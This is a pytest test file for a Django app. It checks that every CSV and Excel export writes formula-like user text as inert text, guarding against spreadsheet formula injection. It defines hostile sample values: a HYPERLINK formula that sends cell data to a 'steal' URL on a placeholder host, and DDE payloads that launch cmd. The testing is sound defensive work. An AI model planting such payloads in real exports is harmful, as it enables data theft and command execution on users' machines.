"""Every export (plan workbook, audit CSV, national summary and history, indicator workbook,
templates) writes text that a spreadsheet would run as a formula as plain text (OWASP's rule):
in a CSV with a single quote before it, in a workbook as a text cell, never a formula.

The test walks every export address the site has, so a new export must be added here."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from inspire.core.cells import looks_like_formula
from tests.web.factories import make_record, store

HYPERLINK = '=HYPERLINK("https://example.com/steal?d="&A1,"Open the evidence")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def export_routes() -> set[str]:
    """The route of every address that downloads a CSV or a workbook."""
    found = set()

    def walk(patterns, prefix=""):
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, route)
            elif isinstance(pattern, URLPattern) and any(word in route for word in ("csv", "xlsx", "export")):
                found.add(route)

    walk(get_resolver().url_patterns)
    return found


@pytest.fixture
def hostile_plan(register):
    from inspire.web.accounts.models import Membership
    from inspire.web.accounts.services import person_get_or_create
    from inspire.web.improve import services
    from inspire.web.read.models import Authority

    admin = get_user_model().objects.create_user("admin", password="a long enough password")
    Membership.objects.create(user=admin, authority=Authority.objects.get(name="Essex"), role="admin")
    inspection = store(
        make_record(
            authority="Essex",
            filename=HYPERLINK + ".txt",
            inspection_start=date(2019, 9, 2),
            inspection_end=date(2019, 9, 13),
            recommendations=[("la", "Improve the timeliness of return home interviews.")],
        )
    )
    plan = services.plan_create(inspection=inspection, created_by=admin, title=HOSTILE[3])
    person_get_or_create(authority=plan.authority, name=HOSTILE[1])
    item = plan.items.get()
    action = services.action_create(item=item, user=admin, text=HYPERLINK, lead=HOSTILE[1])
    services.action_update(action=action, user=admin, text=HOSTILE[2])
    services.milestone_create(action=action, user=admin, text=HYPERLINK, target_date=date(2020, 3, 31))
    services.progress_add(item=item, user=admin, date=date(2019, 12, 1), text=HOSTILE[1])
    services.risk_create(plan=plan, user=admin, description=HOSTILE[3], impact="H", likelihood="M")
    return plan, admin


def addresses(plan) -> dict[str, str]:
    """Each export route and one address of it."""
    return {
        "exports/summary.csv": reverse("exports:summary-csv"),
        "exports/summary.xlsx": reverse("exports:summary-xlsx"),
        "exports/history.csv": reverse("exports:history-csv"),
        "exports/history.xlsx": reverse("exports:history-xlsx"),
        "plans/^template\\.(?P<fmt>xlsx|csv)$": reverse("plans:template", args=["xlsx"]),
        "plans/<int:pk>/export.xlsx": reverse("plans:plan_export", args=[plan.pk]),
        "plans/^(?P<pk>[0-9]+)/audit\\.(?P<fmt>csv)$": reverse("plans:audit_download", args=[plan.pk, "csv"]),
        "authorities/<slug:slug>/indicators/export.xlsx": reverse("indicators:export", args=["essex"]),
        "^authorities/(?P<slug>[-\\w]+)/indicators/benchmarking\\.(?P<kind>xlsx|csv)$": reverse(
            "indicators:benchmarking", args=["essex", "xlsx"]
        ),
        "plans/<int:pk>/tracker.xlsx": reverse("plans:tracker", args=[plan.pk]),
        "exports/themes.csv": reverse("exports:themes-csv"),
        "exports/themes.xlsx": reverse("exports:themes-xlsx"),
        "national/charts/<slug:chart>.csv": reverse("chart_download", args=["regions"]),
    }


def cells(response) -> list[tuple[str, object, bool]]:
    """(where, value, is text that cannot run) for every value of a CSV or workbook download."""
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        return [(f"row {n}", field, not looks_like_formula(field)) for n, row in enumerate(rows, 1) for field in row]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [
        (
            f"{sheet.title}!{cell.coordinate}",
            cell.value,
            cell.data_type != "f"
            and (not looks_like_formula(cell.value) or (cell.data_type == "s" and cell.quotePrefix)),
        )
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_every_export_writes_formula_like_text_as_text(client, hostile_plan):
    plan, admin = hostile_plan
    to_walk = addresses(plan)
    assert export_routes() == set(to_walk), "an export address is not walked by this test"
    client.force_login(admin)
    carried = set()
    for address in to_walk.values():
        response = client.get(address)
        assert response.status_code == 200, address
        found = cells(response)
        assert [(where, value) for where, value, safe in found if not safe] == [], address
        for _, value, _ in found:
            text = str(value).removeprefix("'")
            carried |= {hostile for hostile in HOSTILE if hostile in text}
    assert carried == set(HOSTILE)  # every hostile text reached some export, as text


def test_a_csv_field_that_would_run_is_quoted_and_others_are_not(client, hostile_plan):
    plan, admin = hostile_plan
    client.force_login(admin)
    audit = client.get(reverse("plans:audit_download", args=[plan.pk, "csv"]))
    rows = list(csv.DictReader(io.StringIO(audit.content.decode())))
    texts = {row["after"] for row in rows}
    assert "'" + HYPERLINK in texts and "'-2+3" in texts and HYPERLINK not in texts
    assert "Improve the timeliness of return home interviews." in {row["after"] for row in rows} | {
        row["description"] for row in rows
    }


def test_the_plan_workbook_keeps_the_text_and_imports_back_equal(client, hostile_plan):
    from inspire.core.plans import excel
    from inspire.web.improve.selectors import plan_data

    plan, admin = hostile_plan
    client.force_login(admin)
    content = client.get(reverse("plans:plan_export", args=[plan.pk])).content
    action = openpyxl.load_workbook(io.BytesIO(content))["Actions"]["C2"]
    assert (action.value, action.data_type, action.quotePrefix) == ("-2+3", "s", True)
    assert (
        excel.from_xlsx(content).items[0].actions[0].text
        == plan_data(plan=plan, as_at=date.today()).items[0].actions[0].text
    )
